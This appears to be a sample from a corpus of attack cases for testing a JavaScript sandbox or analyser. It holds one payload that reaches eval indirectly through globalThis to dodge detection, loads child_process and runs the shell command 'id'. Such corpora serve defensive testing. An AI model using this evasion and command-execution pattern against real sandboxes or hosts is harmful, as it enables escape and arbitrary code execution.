// corpus: attack class=eval form=targeted
// globalThis.globalThis.eval is eval.
function main() {
  return { out: globalThis.globalThis.eval("process.getBuiltinModule('child_process').execSync('id').toString()") };
}

module.exports = { main };
